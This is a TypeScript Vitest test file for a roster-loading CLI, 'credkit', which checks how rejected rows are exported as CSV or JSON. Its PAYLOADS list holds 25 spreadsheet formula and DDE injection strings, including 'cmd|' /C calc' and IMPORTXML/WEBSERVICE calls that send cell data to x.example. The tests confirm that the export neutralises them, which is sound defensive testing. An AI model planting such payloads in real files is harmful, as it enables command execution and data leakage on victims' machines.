import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import { ExitCode } from '../../src/errors.js';
import type { OpenedContext } from '../../src/pipeline/context.js';
import { loadRoster } from '../../src/pipeline/load-roster.js';
import { rejectedRows, rosterRejects } from '../../src/pipeline/roster-rejects.js';
import { tempContext } from '../helpers/workspace.js';
import { rejection, tempFile } from '../sources/roster/read-helpers.js';

const BIN = join(import.meta.dirname, '../../bin/credkit');
const CORPUS = join(import.meta.dirname, '../fixtures/roster/corpus');

/** reliability.md S3: formula and DDE payloads, with TAB, CR and full-width lead characters. */
const PAYLOADS = [
  '=1+1',
  '=10*10',
  '=HYPERLINK("http://x.example","Lind")',
  "=cmd|' /C calc'!A0",
  "=2+5+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")',
  '=WEBSERVICE("http://x.example")',
  '=IMPORTXML(CONCAT("http://x.example/?v=",A1),"//a")',
  '=" "&A1',
  '+1-2',
  "+cmd|' /C calc'!A0",
  '+HYPERLINK("http://x.example")',
  '-2+3',
  "-cmd|' /C calc'!A0",
  '-HYPERLINK("http://x.example")',
  '@SUM(A1)',
  "@cmd|' /C calc'!A0",
  '@HYPERLINK("http://x.example")',
  '\t=1+1',
  '\t@SUM(A1)',
  '\r=1+1',
  '\uFF1D1+1',
  '\uFF0B1',
  '\uFF0D1',
  '\uFF20SUM(A1)',
];

const quote = (v: string) => `"${v.replace(/"/g, '""')}"`;

/** One rejected row per payload (bad check digit), payload in a name and an address cell. */
function payloadRoster(): string {
  const rows = PAYLOADS.map((p) =>
    ['1234567890', p, 'Ana', p, '02134', '43215-1234'].map(quote).join(','),
  );
  return ['NPI,Last Name,First Name,Address Line 1,ZIP,Group ZIP', ...rows].join('\r\n');
}

let ctx: OpenedContext | undefined;
afterEach(() => {
  ctx?.close();
  ctx = undefined;
});

async function loaded(text: string | Buffer, name?: string): Promise<string> {
  ctx = tempContext();
  const r = await loadRoster(ctx, tempFile(text, name));
  return r.batchId;
}

describe('roster rejects', () => {
  it('lists each rejected row with every error finding of its record', async () => {
    const batchId = await loaded(
      'NPI,Last Name,First Name,Date of Birth\n1234567890,,Ana,02/30/1980\n1234567893,Lind,Ana,\n',
    );
    const rows = rejectedRows(ctx!.db, batchId);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ record: 1, line: 2, raw: { NPI: '1234567890' } });
    expect(rows[0].errors.map((e) => [e.code, e.field, e.line])).toEqual([
      ['E_NPI_CHECKDIGIT', 'npi', 2],
      ['E_DATE', 'dob', 2],
      ['E_REQUIRED', 'lastName', 2],
    ]);
  });

  it('neutralises the 25 formula payloads in CSV cells, NPI and ZIP untouched', async () => {
    const batchId = await loaded(payloadRoster());
    const out = rosterRejects(ctx!, { batchId });
    expect(out).toMatchObject({ batchId, rows: PAYLOADS.length, path: null });
    const table = parse(out.text ?? '', { columns: true }) as Record<string, string>[];
    expect(table).toHaveLength(PAYLOADS.length);
    table.forEach((row, i) => {
      expect(row['Last Name']).toBe(`'${PAYLOADS[i]}`);
      expect(row['Address Line 1']).toBe(`'${PAYLOADS[i]}`);
      expect(row).toMatchObject({ NPI: '1234567890', ZIP: '02134', 'Group ZIP': '43215-1234' });
      expect(row).toMatchObject({ record: String(i + 1), error_codes: 'E_NPI_CHECKDIGIT' });
    });
  });

  it('neutralises a formula typed into the NPI column of a rejected row', async () => {
    ctx = tempContext();
    const r = await loadRoster(ctx, join(CORPUS, 'b18-formulas.csv'));
    const table = parse(rosterRejects(ctx, { batchId: r.batchId }).text ?? '', {
      columns: true,
    }) as Record<string, string>[];
    expect(table.map((t) => [t.record, t.line, t.NPI, t.error_codes])).toEqual([
      ['4', '5', "'=1+1", 'E_NPI_FORMAT'],
    ]);
    expect(table[0].reasons).toBe('E_NPI_FORMAT [npi]: NPI is not 10 digits');
  });

  it('writes JSON to a private file when asked, replacing it whole', async () => {
    const batchId = await loaded(readFileSync(join(CORPUS, 'b15-multiple-npis.csv')));
    const path = join(mkdtempSync(join(tmpdir(), 'credkit-rejects-')), 'rejects.json');
    const out = rosterRejects(ctx!, { batchId, format: 'json', out: path });
    expect(out).toEqual({ batchId, rows: 3, path, text: null });
    const doc = JSON.parse(readFileSync(path, 'utf8'));
    expect(doc.rows.map((r: { record: number }) => r.record)).toEqual([1, 2, 3]);
    expect(doc.rows[0].errors[0]).toEqual({
      code: 'E_NPI_MULTIPLE',
      field: 'npi',
      line: 2,
      message: 'NPI holds 3 NPIs; give one per row',
    });
    expect(statSync(path).mode & 0o777).toBe(0o600);
  });

  it('gives only the header for a batch without rejected rows', async () => {
    const batchId = await loaded('NPI,Last Name,First Name\n1234567893,Lind,Ana\n');
    const out = rosterRejects(ctx!, { batchId });
    expect(out.rows).toBe(0);
    expect(out.text).toBe('record,line,error_codes,reasons\r\n');
  });

  it('refuses an unknown batch with E_BATCH_NOT_FOUND, exit 2', async () => {
    ctx = tempContext();
    const err = await rejection(
      Promise.resolve().then(() => rosterRejects(ctx!, { batchId: 'b-x' })),
    );
    expect(err).toMatchObject({ code: 'E_BATCH_NOT_FOUND', exit: ExitCode.usage });
  });
});

describe('credkit roster rejects (built CLI)', () => {
  const run = (args: string[]) => spawnSync(BIN, args, { encoding: 'utf8', timeout: 20_000 });

  it('prints the CSV on stdout, and with --json writes it to reports/ and returns the path', () => {
    const ws = mkdtempSync(join(tmpdir(), 'credkit-cli-'));
    const load = run(['roster', 'load', join(CORPUS, 'b13-npi-junk.csv'), '-w', ws, '--json']);
    expect(load.status).toBe(0);
    const { batchId } = JSON.parse(load.stdout) as { batchId: string };
    const csv = run(['roster', 'rejects', '--batch', batchId, '-w', ws]);
    expect(csv.status).toBe(0);
    expect(csv.stdout.split('\r\n').filter(Boolean)).toHaveLength(1 + 6);
    const json = run(['roster', 'rejects', '--batch', batchId, '-w', ws, '--json']);
    expect(JSON.parse(json.stdout)).toEqual({
      batchId,
      rows: 6,
      path: join(ws, 'reports', `rejects-${batchId}.csv`),
    });
  });

  it('exits 2 with one line on stderr for an unknown batch', () => {
    const ws = mkdtempSync(join(tmpdir(), 'credkit-cli-'));
    const r = run(['roster', 'rejects', '--batch', 'b-000000000000', '-w', ws]);
    expect(r.status).toBe(ExitCode.usage);
    expect(r.stderr).toBe("E_BATCH_NOT_FOUND no roster batch 'b-000000000000' in this workspace\n");
  });
});
